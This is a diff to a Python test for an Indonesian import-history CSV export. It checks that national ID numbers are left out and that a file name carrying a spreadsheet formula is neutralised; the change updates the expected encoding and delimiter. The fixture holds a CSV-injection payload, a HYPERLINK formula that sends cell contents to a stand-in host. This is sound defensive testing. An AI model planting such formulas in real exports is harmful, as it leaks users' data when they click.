@@ -180,9 +180,9 @@ def test_riwayat_keeps_no_nik_of_a_file_name_and_its_csv_runs_no_formula(page, m
     history = at.dataframe[-1].value
     assert list(history["Berkas"]) == ["daftar_#_budi.xlsx", "=HYPERLINK(\"http://contoh.invalid/?d=\"&A1,\"klik\").csv",
                                        "peserta_daftar.csv"]
-    text = downloads["riwayat_impor.csv"]().decode("utf-8")  # made on click (ui.components.downloads)
+    text = downloads["riwayat_impor.csv"]().decode("utf-8-sig")  # made on click (ui.components.downloads)
     assert "daftar_#_budi.xlsx" in text and "1210010101900001" not in text
-    assert "\n'=HYPERLINK" not in text and ",\"'=HYPERLINK(\"\"http://contoh.invalid/?d=\"\"&A1,\"\"klik\"\").csv\"," in text
+    assert "\n'=HYPERLINK" not in text and ";\"'=HYPERLINK(\"\"http://contoh.invalid/?d=\"\"&A1,\"\"klik\"\").csv\";" in text
 
 
 def test_an_unrecognised_nik_header_can_be_pointed_at(demo_copy, monkeypatch):
